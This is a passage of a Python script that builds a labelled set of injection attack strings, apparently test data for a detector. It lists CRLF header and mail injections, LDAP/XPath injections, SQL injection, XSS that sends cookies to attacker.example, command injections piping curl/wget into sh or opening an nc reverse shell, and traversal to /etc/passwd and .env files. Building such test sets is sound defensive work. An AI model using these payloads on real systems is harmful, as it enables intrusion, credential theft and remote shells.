    "/login?next=%0d%0aRefresh:%200;url=https://attacker.example/",
)
add("crlf", "response-splitting",
    "de%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>",
    "/photos\r\n\r\n<html><body>Session expired, <a href=https://attacker.example/login>log in again</a></body></html>",
    "es%0A%0A<svg onload=alert(document.domain)>",
    "/hire%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<h1>Pay outstanding hire to sort code 00-00-00</h1>",
)
add("crlf", "mail-header",
    "kuba@example.com\r\nBcc: harvest@attacker.example",
    "Permit approved%0aCc:%20all-staff@attacker.example",
    "Dave\nTo: accounts@attacker.example\nSubject: Urgent: change of bank details for hire payments",
    "site@example.com%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<a href=https://attacker.example>Click to view incident</a>",
    "Toolbox talk #33\r\nReply-To: hr@attacker.example",
    "liam@example.com\nX-Mailer: x\nBCC: list@attacker.example",
)
add("crlf", "csv-row",
    "Ashfield Homes\n4999,Attacker Ltd,2024-01-01,2024-12-31,0,0,0",
    "\"Brookfield School\"\r\n\"=HYPERLINK(\"\"https://attacker.example\"\",\"\"Re-download export\"\")\",4,£0",
    "Union Builders Ltd\",4,£100\n4998,\"Refund\",1,-£9,999.00",
    "Smith & Co\n4997;=cmd|' /C calc'!A0;1;£0",
    "Patel Properties\r\nCREDIT;4471;boards;-1000;-£12,000.00",
    "Harbour Board\"\n\"4996\",\"Ghost Client\",\"52\",\"£0.00\"",
)

# ---------------- ldap-xpath ----------------
add("ldap-xpath", "ldap",
    "*)(uid=*))(|(uid=*",
    "kuba)(|(objectClass=*)",
    "admin)(&)",
    "*)(userPassword=*)",
    "Liam*)(memberOf=cn=site-admins,ou=groups,dc=scaff,dc=local",
    "*))%00",
    "ops)(!(cn=x)",
    "\\2a)(mail=*",
    "Dave)(|(description=*pass*)",
    "*)(|(objectClass=person)(objectClass=*",
)
add("ldap-xpath", "xpath",
    "' or '1'='1",
    "x' or name()='password' or 'a'='b",
    "inspector'] | //user/password | //x['",
    "' or count(/*)=1 or 'x'='y",
    "'] | /* | //*['",
    "Gareth' or substring(//user[1]/pass,1,1)='a' or 'z'='q",
    "1 or 1=1]/../../*[1",
    "' and string-length(//staff[position()=1]/pin)>3 and ''='",
    "doc('http://attacker.example/x.xml')",
    "x'] | document('file:///etc/passwd') | a['",
)

# ------- generated: prefix + payload joins (hand-written pools) -------
PREFIX = ["Ashfield Rd lift 4", "St Mary's church tower", "job 4471 boards",
          "Union Terrace bay 9", "toolbox talk #33", "Brookfield School stair tower"]
JOIN_POOLS = {
    ("sqli", "union+prefix"): ["' UNION SELECT email,pw_hash FROM staff_users-- ",
                               "' union select null,token from api_tokens#",
                               "\" UNION SELECT 1,group_concat(username) FROM admins-- "],
    ("xss", "event-handler+prefix"): ["<img src=q onerror=fetch('//attacker.example/'+document.cookie)>",
                                      "<svg onload=location='//attacker.example/?c='+document.cookie>",
                                      "\"><iframe onload=alert(document.domain)>"],
    ("cmdi", "separator+prefix"): ["; curl -s attacker.example/i | sh",
                                   " && nc 198.51.100.9 9001 -e /bin/bash",
                                   " | wget -qO- 203.0.113.44/t | sh"],
}
JOIN_COUNTS = {("sqli", "union+prefix"): 2, ("xss", "event-handler+prefix"): 4,
               ("cmdi", "separator+prefix"): 8}
URLENC_POOL = {
    "sqli": ["' OR 1=1-- ", "1 UNION SELECT user,password FROM staff_users",
             "x'; DROP TABLE hire_invoices;--", "' AND SLEEP(5)#",
             "0 or 1=1 order by 1", "admin' or '1'='1'/*",
             "' UNION SELECT NULL,version()-- ", "4471' AND 1=2 UNION SELECT 1,2-- "],
    "traversal": ["../../../../etc/passwd", "..\\..\\..\\windows\\win.ini",
                  "../../../app/.env", "../../../../proc/self/environ",
                  "drawings/../../../../etc/shadow"],
}


def urlenc(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


ORDER = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]


def main():
    rng = random.Random(SEED)
    here = os.path.dirname(os.path.abspath(__file__))
    benign = set()
    bp = os.path.join(here, "benign.jsonl")
    if os.path.exists(bp):
        with open(bp, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])
    seen = set()
    bycat = {c: [] for c in ORDER}
    for cat, cls, v in A:
        assert v not in seen, ("dup", v)
        seen.add(v)
        bycat[cat].append((cls, v, True))
    for key in sorted(JOIN_POOLS):
        cat, cls = key
        n = 0
        tries = 0
        while n < JOIN_COUNTS[key]:
            tries += 1
            assert tries < 5000
            v = rng.choice(PREFIX) + rng.choice(JOIN_POOLS[key])
            if v in seen:
                continue
            seen.add(v)
            bycat[cat].append((cls, v, False))
            n += 1
    for cat in sorted(URLENC_POOL):
        for p in URLENC_POOL[cat]:
            v = urlenc(p)
            assert v not in seen
            seen.add(v)
            cls = {"sqli": "union", "traversal": "dotdot"}[cat] + "+urlencode"
            bycat[cat].append((cls, v, False))
    rows = []
    for cat in ORDER:
        for cls, v, lit in bycat[cat]:
            assert 1 <= len(v) <= 2000, v
            assert v not in benign, ("equals benign", v)
            for ch in v:
                o = ord(ch)
                assert not (o < 32 and ch not in "\n\r\t") and o != 127, ("ctrl", v)
            rows.append((cat, cls, v, lit))
    with open(os.path.join(here, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v, lit) in enumerate(rows, 1):
            f.write(json.dumps({"id": "hako-%05d" % i, "category": cat, "class": cls,
                                "label": "attack", "value": v}, ensure_ascii=False) + "\n")
    lits = sum(1 for r in rows if r[3])
    print("wrote", len(rows), "literals", lits)
    for cat in ORDER:
        print(cat, len(bycat[cat]), sum(1 for x in bycat[cat] if x[2]))


if __name__ == "__main__":
    main()
